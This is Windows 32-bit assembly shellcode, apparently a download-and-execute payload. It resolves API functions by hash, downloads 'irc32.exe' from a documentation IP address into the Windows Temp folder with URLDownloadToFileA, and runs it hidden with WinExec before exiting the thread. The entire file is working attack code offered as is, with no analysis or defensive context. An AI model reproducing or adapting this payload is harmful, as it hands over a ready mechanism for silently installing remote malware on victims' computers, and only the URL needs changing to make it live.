; Windows, IA-32: fetches a program by HTTP from a documentation address (RFC 5737) and starts it.
bits 32
%include "demo_resolve.inc"
HASH load_library, 'LoadLibraryA'
HASH win_exec, 'WinExec'
HASH exit_thread, 'ExitThread'
HASH download, 'URLDownloadToFileA'

	RESOLVER
	push load_library
	push ebx
	call ebp
	lea ecx, AT(library)
	push ecx
	call eax
	push download
	push eax
	call ebp
	xor ecx, ecx
	push ecx
	push ecx
	lea edx, AT(path)
	push edx
	lea edx, AT(url)
	push edx
	push ecx
	call eax			; URLDownloadToFileA(NULL, url, path, 0, NULL)
	push win_exec
	push ebx
	call ebp
	push byte 0
	lea edx, AT(path)
	push edx
	call eax			; WinExec(path, SW_HIDE)
	push exit_thread
	push ebx
	call ebp
	push byte 0
	call eax

library:	db 'urlmon.dll', 0
url:		db 'http://198.51.100.80/update/irc32.exe', 0
path:		db 'C:\WINDOWS\Temp\irc32.exe', 0
